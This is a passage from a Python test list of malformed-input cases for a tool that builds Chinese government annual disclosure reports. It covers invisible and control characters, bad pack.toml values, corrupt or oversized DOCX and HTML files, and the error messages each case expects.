    # 7, 12. invisible characters in the organ: clean names, a DOCX that builds
    Attack("organ_bidi_zero_width", _build(_json(_organ("兰山区\u202e\u200b人民政府")), "json,html,docx"), 0,
           ("文字中有", "meta.organ"), verify=_names_are_clean),
    Attack("organ_vertical_tab_docx", _build(_json(_organ("兰山区\u000b人民政府")), "docx"), 0,
           ("控制字符",), verify=_names_are_clean),
    # 8. --force never overwrites an input
    Attack("merge_onto_input", _merge_onto_input, 2, ("输入文件之一",)),
    Attack("init_onto_previous", _init_onto_previous, 2, ("输入文件之一",)),
    # 13, 14. lone surrogates and control characters
    Attack("prose_lone_surrogate", _build(_json(_prose("本年\ud800新收申请")), "docx,html,json"), 0, ("无法编码",)),
    Attack("merge_unit_organ_control", _merge_units("甲\u0001局"), 0, ("已汇总2个单位",), verify=_units_clean),
    # 15, 16, 27. pack.toml values of the wrong type, and a cycle
    Attack("pack_extends_number", _templates_check(_pack_manifest("extends = 5\n")), 1, ("pack.toml", "extends", "数字5")),
    Attack("pack_extends_list", _templates_check(_pack_manifest('extends = ["standard"]\n')), 1, ("pack.toml", "数组")),
    Attack("pack_heading_table", _templates_check(_pack_manifest('[headings]\noverview = {a = 1}\n')), 1,
           ("pack.toml", "overview", "应为文字")),
    Attack("pack_extends_cycle", _two_packs_cycle, 2, ("pack.toml", "继承层级过深")),
    # 17. a published report nested too deep, or malformed
    Attack("published_nested_sdt", _check(nested_sdt_docx), 2, ("嵌套过深", "word/document.xml")),
    Attack("published_malformed", _check(malformed_docx), 2, ("已损坏", "word/document.xml")),
    # a published page whose tables expand to billions of cells, or that holds 100,000 tables, or
    # is simply huge: refused in seconds (they took minutes and gigabytes), never a silent 0
    Attack("published_span_bomb", _check(span_bomb_page), 2, ("表格过大", "不像年度报告")),
    Attack("published_many_tables", _check(many_tables_page), 2, ("表格过大",)),
    Attack("published_huge_page", _check(huge_page), 2, ("文件过大", "10 MB")),
    # 18. 1e309 in 单位汇总
    Attack("units_sheet_inf", _check(units_sheet_value(1e309)), 0, ("共0个错误",)),
    # 19. a 正文 paragraph that is just an opening bracket
    Attack("prose_lone_bracket", _build(_json(_prose("（")), "html,docx,json"), 0),
    Attack("prose_bracket_one", _build(_json(_prose("（一")), "html,docx,json"), 0),
    # 22. −0.0 in money
    Attack("money_negative_zero", _build(_json(lambda d: _set(d, "active_disclosure.fees.amount", -0.0)), "html"), 0,
           verify=_no_negative_zero),
    # 23. a write failure: named, in Chinese, with a fitting remedy
    Attack("output_name_too_long", _long_output_folder, 2, ("文件名或路径过长", "路径较短")),
    Attack("organ_too_long_for_a_file_name", _build(_json(_organ("兰山区" * 150)), "json"), 0),
    # 24. megabytes of prose: blamed on the cell, not the template
    Attack("prose_six_million", _check(workbook_with({("正文", NARRATIVE.split("!")[1]): "字" * 6_000_000})), 1,
           (NARRATIVE, "32767")),
    # 26. meta.organ of another type
    *(Attack(f"json_organ_{label}", _check(_json(_organ(value))), 1, ("meta.organ", "应为文字"))
      for label, value in (("true", True), ("list", ["甲"]), ("object", {"a": 1}), ("number", 12345))),
]
